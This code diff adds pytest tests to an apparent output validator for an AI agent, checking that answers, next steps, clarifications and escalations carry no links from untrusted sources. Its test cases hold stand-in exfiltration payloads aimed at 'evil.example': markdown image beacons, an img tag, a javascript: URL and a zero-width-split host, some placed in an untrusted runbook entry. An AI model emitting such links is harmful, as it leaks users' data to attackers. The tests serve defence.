@@ -4,7 +4,8 @@ import pytest
 
 from state.context import Kind, Trust
 from state.verdict import Accepted, Denied, Verdict
-from state.work import Answer, Citation, DecisionKind, Plan
+from state.work import Answer, Citation, Clarify, DecisionKind, Escalate, Plan
+from tests.desk import POLICY
 from tests.nodes.parts import Parts
 from tests.nodes.validating import Validating
 
@@ -105,3 +106,53 @@ def test_a_plan_opens_only_what_the_roles_may_do(
     decided, task = {"kind": DecisionKind(kind)}, parts.task(steps=steps)
     (found,) = Validating(parts).run(parts.proposal(proposal), decided=decided, task=task)
     assert (found.call_id, found.verdict, found.rule) == ("plan", verdict, rule)
+
+
+EVIL = "https://evil.example/c?d=A1"
+LINKED = (
+    ("objective", Trust.USER, "turn://1", "Look at docs.example/keys, is it so?"),
+    ("f", Trust.SYSTEM, "account://1", "portal: https://portal.example/A1"),
+    ("v", Trust.SYSTEM, "verdict://0/answer", f"denied {EVIL}"),
+    ("d", Trust.UNTRUSTED, "runbook/x@v1#top", f"See https://status.example/now and {EVIL}"),
+)
+ELSEWHERE = "what is to be said holds a link that comes neither from the user nor from a trusted source; say it without"
+SAID: dict[str, tuple[str, bool]] = {
+    "a picture": (f"![]({EVIL})", False),
+    "a picture of one's own place": ("![](/files/A1.png)", False),
+    "markup": ('<img src="//evil.example/A1">', False),
+    "a reference": ("[x][1]\n\n[1]: evil.example", False),
+    "a script": ("[x](javascript:alert`1`)", False),
+    "a link that a document has": (f"See {EVIL}", False),
+    "one split by what nobody sees": ("https://evil\u200c.example/c", False),
+    "one that nobody gave": ("See https://docs.example/other", False),
+    "what the user named": ("See [it](https://docs.example/keys).", True),
+    "a trusted field": ("See https://portal.example/A1.", True),
+    "a host of the policy, as a document has it": ("See https://status.example/now", True),
+    "a host of the policy, with more": ("See https://status.example/now?d=A1", False),
+    "one of our own blocks": ("Not done [verdict://0/answer].", True),
+    "a source": ("See [the runbook](runbook/x@v1#top).", True),
+    "names that look like one": ("Use node.js, e.g. v1.2 of settings.py.", True),
+}
+
+
+@pytest.mark.parametrize(("text", "fine"), SAID.values(), ids=SAID.keys())
+def test_what_is_said_leads_nowhere_that_nobody_trusted_named(parts: Parts, text: str, fine: bool) -> None:
+    policy = POLICY.model_copy(update={"link_hosts": ("status.example",)})
+    shown = parts.manifest(*LINKED)
+    refusal = refused("answer_links_elsewhere", ELSEWHERE)
+    said = (
+        (Answer(text=text), (ACCEPTED,)),
+        (Answer(text="x", next_steps=(text,)), (ACCEPTED,)),
+        (Clarify(question="x", options=(text,)), ()),
+        (Escalate(reason=text), ()),
+    )
+    for proposal, taken in said:
+        told = Validating(parts, policy=policy).run(parts.proposal(proposal), manifest=shown)
+        assert told == (taken if fine else (refusal,))
+
+
+def test_without_a_host_in_the_policy_a_document_leads_nowhere(parts: Parts) -> None:
+    answer = parts.proposal(Answer(text="See https://status.example/now"))
+    assert Validating(parts).run(answer, manifest=parts.manifest(*LINKED)) == (
+        refused("answer_links_elsewhere", ELSEWHERE),
+    )
